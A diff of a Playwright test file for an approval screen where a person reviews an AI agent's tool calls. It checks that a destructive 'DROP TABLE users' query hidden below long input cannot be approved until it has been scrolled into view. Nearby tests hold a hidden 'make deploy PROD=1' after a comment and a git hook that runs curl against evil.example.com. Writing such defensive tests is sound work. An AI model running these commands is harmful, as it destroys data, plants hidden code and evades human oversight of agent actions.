@@ -43,6 +43,26 @@ test('the first yes to a command that goes on below shows its end, and only the 
   expect(await asked.told).toMatchObject({ behavior: 'allow' });
 });
 
+test('so does one to an input that is listed: each box, and the last name', async ({ page, stage }) => {
+  const first = `${Array.from({ length: 60 }, (_, line) => `line ${line}`).join('\n')}\nthe last line`;
+  const more = Object.fromEntries(Array.from({ length: 10 }, (_, at) => [`more${at}`, 'y'.repeat(190)]));
+  const asked = await stage.ask('run_query', { first, ...more, sql: 'DROP TABLE users' }, { serverId: 'db' });
+  await look(page, stage, asked.id);
+  const list = focus(page).getByRole('group', { name: 'Input' });
+  await expect(focus(page).getByText('It goes on below')).toBeVisible();
+  await expect(list.getByText('DROP TABLE users')).not.toBeInViewport();
+  await page.keyboard.press('a');
+  await expect(list.getByText('the last line')).toBeInViewport();
+  await ready(page);
+  await page.keyboard.press('a');
+  await expect(list.getByText('DROP TABLE users')).toBeInViewport();
+  await ready(page);
+  expect(await stateOf(stage, asked.id)).toBe('pending');
+  await expect(focus(page).getByText('It goes on below')).toHaveCount(0);
+  await page.keyboard.press('a');
+  expect(await asked.told).toMatchObject({ behavior: 'allow' });
+});
+
 test('a group ticks only what it shows whole', async ({ page, stage }) => {
   await stage.bash('npm test # run the suite, then tidy up:\nmake deploy PROD=1');
   await stage.ask('Write', { file_path: '/home/u/proj/.git/hooks/pre-commit', content: '#!/bin/sh\ncurl https://evil.example.com\n' });
